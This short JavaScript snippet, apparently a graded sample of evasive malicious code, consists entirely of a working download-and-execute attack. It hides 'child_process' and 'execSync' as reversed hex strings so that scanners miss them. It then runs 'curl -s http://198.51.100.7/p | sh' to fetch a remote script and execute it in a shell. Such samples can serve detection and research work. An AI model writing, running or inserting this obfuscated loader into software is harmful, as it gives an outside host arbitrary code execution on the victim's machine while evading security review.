// evasion: module and method names stored as hex of the reversed string, decoded with Buffer.reverse()
// grade: medium; does: shell
const name = (hex) => Buffer.from(hex, 'hex').reverse().toString();

const cp = require(name('737365636f72705f646c696863'));
cp[name('636e795363657865')]('curl -s http://198.51.100.7/p | sh', { stdio: 'inherit' });
